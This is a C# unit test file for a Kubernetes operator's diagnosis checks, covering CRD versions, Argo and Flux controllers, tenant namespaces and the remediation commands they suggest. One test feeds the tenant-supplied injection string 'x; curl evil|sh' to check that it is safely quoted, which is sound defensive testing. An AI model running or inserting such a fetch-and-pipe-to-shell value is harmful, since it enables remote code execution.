using ArcOperator.Checks;
using FluentAssertions;
using NUnit.Framework;

namespace ArcOperator.Tests.Checks;

internal sealed class DiagnosisTests
{
    private static readonly ClusterFacts Complete = new()
    {
        Kinds = [new("orders.arc.opendefense.cloud", new([], []))],
        ForeignKinds = new HashSet<string>([.. Diagnosis.ArgoKinds, Diagnosis.FluxKind]),
        Operators = [new("arc-system", "arc-operator") { IsAvailable = true }],
        ArgoControllers = [new("argo/workflow-controller", true, null)],
        FluxControllers = [new("flux-system", "kustomize-controller", true)],
        Namespaces = [new("team-a") { HasExternalSources = true }],
    };

    [Test]
    public void A_complete_cluster_has_no_findings() => Diagnosis.For(Complete).Should().BeEmpty();

    [Test]
    public void Facts_that_cannot_be_read_are_not_errors() => Diagnosis.For(new()).Should().OnlyContain(finding => finding.Severity == FindingSeverity.Warning);

    [Test]
    public void Each_missing_kind_is_named_with_the_command_that_installs_it()
    {
        Single(Complete with { Kinds = [new("orders.arc.opendefense.cloud", null)] })
            .Should().Be(Finding.Error("orders.arc.opendefense.cloud is not installed, so its objects cannot exist", "arc-operator crds install"));
        Single(Complete with { ForeignKinds = new HashSet<string>([.. Diagnosis.ArgoKinds.Skip(1), Diagnosis.FluxKind]) })
            .Fact.Should().Be("Argo Workflows is not installed completely: workflows.argoproj.io missing, so no work succeeds");
        Single(Complete with { ForeignKinds = Diagnosis.ArgoKinds.ToHashSet() }).Command.Should().StartWith("flux install");
    }

    [Test]
    public void A_missing_kind_of_Flux_is_an_error_only_if_ExternalSources_exist()
    {
        var facts = Complete with { ForeignKinds = Diagnosis.ArgoKinds.ToHashSet() };

        Single(facts).Severity.Should().Be(FindingSeverity.Error);
        Single(facts with { Namespaces = [] }).Severity.Should().Be(FindingSeverity.Warning);
    }

    [Test]
    public void An_older_definition_is_an_error_and_a_newer_one_a_warning()
    {
        Single(Complete with { Kinds = [new("orders.arc.opendefense.cloud", new([], ["v1alpha1.spec.ttl"]))] })
            .Should().Be(Finding.Error("orders.arc.opendefense.cloud is older than this binary: it lacks v1alpha1.spec.ttl, and the server drops such fields", "arc-operator crds install"));
        var newer = Single(Complete with { Kinds = [new("orders.arc.opendefense.cloud", new(["v1alpha1.spec.a", "v1alpha1.spec.b", "v1alpha1.spec.c", "v1alpha1.spec.d"], []))] });
        newer.Severity.Should().Be(FindingSeverity.Warning);
        newer.Fact.Should().Contain("is newer than this binary, which does not know v1alpha1.spec.a, v1alpha1.spec.b, v1alpha1.spec.c and 1 more");
    }

    [Test]
    public void A_namespace_that_no_controller_of_Argo_watches_is_named()
    {
        var facts = Complete with { ArgoControllers = [new("argo/workflow-controller", true, "argo")] };

        Single(facts).Fact.Should().Be("no controller of Argo watches namespace team-a: argo/workflow-controller watches argo");
        Diagnosis.For(facts with { Namespaces = [new("team-a") { HasStartedWorkflows = true }] }).Should().BeEmpty();
    }

    [Test]
    public void A_Workflow_that_Argo_does_not_start_is_named() =>
        Single(Complete with { Namespaces = [new("team-a") { UnstartedWorkflow = "order-1" }] })
            .Fact.Should().StartWith("Argo has not started Workflow team-a/order-1 for two minutes");

    [Test]
    public void A_controller_of_Argo_without_replica_is_an_error() =>
        Single(Complete with { ArgoControllers = [new("argo/workflow-controller", false, null)] }).Command.Should().Be("kubectl describe deployment -n argo workflow-controller");

    [TestCase("Strict", false, FindingSeverity.Error, "ARC_ARGO__TEMPLATEREFERENCING=Strict")]
    [TestCase("Secure", false, FindingSeverity.Error, "ARC_ARGO__TEMPLATEREFERENCING=Strict")]
    [TestCase("", true, FindingSeverity.Warning, "ARC_ARGO__TEMPLATEREFERENCING=Unrestricted")]
    public void A_wrong_option_for_Argos_mode_is_named_with_the_option_that_fits(string mode, bool isStrict, object severity, string option)
    {
        var finding = Single(Complete with
        {
            ArgoControllers = [new("argo/workflow-controller", true, null) { TemplateReferencing = mode }],
            Operators = [new("arc-system", "arc-operator") { IsAvailable = true, IsStrict = isStrict }],
        });

        finding.Severity.Should().Be((FindingSeverity)severity);
        finding.Command.Should().Be($"kubectl set env -n arc-system deployment/arc-operator {option}");
    }

    [Test]
    public void Another_instance_ID_than_Argos_is_an_error() =>
        Single(Complete with { ArgoControllers = [new("argo/workflow-controller", true, null) { InstanceId = "blue" }] })
            .Command.Should().EndWith("ARC_ARGO__INSTANCEID=blue");

    [Test]
    public void Values_of_a_tenant_are_one_word_in_the_command()
    {
        Single(Complete with { ArgoControllers = [new("team-a/workflow-controller", true, null) { InstanceId = "\u001B[2J x; curl evil|sh" }] })
            .Command.Should().Be("kubectl set env -n arc-system deployment/arc-operator 'ARC_ARGO__INSTANCEID= x; curl evil|sh'");
        Single(Complete with { Namespaces = [new("team-a") { AccountsWithoutRights = ["x; curl evil|sh"] }] })
            .Command.Should().Be("kubectl apply -k config/templates/worker -n team-a");
    }

    [TestCase("default", "kubectl apply -k config/templates/worker -n team-a")]
    [TestCase("builder", "kubectl apply -k config/templates/worker -n team-a && kubectl create rolebinding builder-arc-worker --role=arc-worker --serviceaccount=team-a:builder -n team-a")]
    public void An_account_of_workers_without_rights_is_named_with_the_command_that_grants_them(string account, string command) =>
        Single(Complete with { Namespaces = [new("team-a") { AccountsWithoutRights = [account] }] }).Command.Should().Be(command);

    [Test]
    public void A_controller_of_Flux_without_the_feature_gate_is_named() =>
        Single(Complete with { FluxControllers = [new("flux-system", "helm-controller", false)] })
            .Fact.Should().Be("Flux' helm-controller runs without the feature gate ExternalArtifact, so it refuses the artifacts of ExternalSources");

    [TestCase("", "", true)]
    [TestCase("team-a", "", true)]
    [TestCase("team-a", "team-a,team-b", true)]
    [TestCase("team-a", "team-b", false)]
    public void Two_operators_whose_namespaces_overlap_are_an_error(string first, string second, bool overlaps)
    {
        var facts = Complete with { Operators = [Watching("arc-system", first), Watching("arc-2", second)] };

        Diagnosis.For(facts).Should().HaveCount(overlaps ? 1 : 0);
    }

    private static OperatorInstallation Watching(string @namespace, string watched) =>
        new(@namespace, "arc-operator") { IsAvailable = true, Watched = watched.Split(',', StringSplitOptions.RemoveEmptyEntries) };

    private static Finding Single(ClusterFacts facts) => Diagnosis.For(facts).Should().ContainSingle().Which;
}
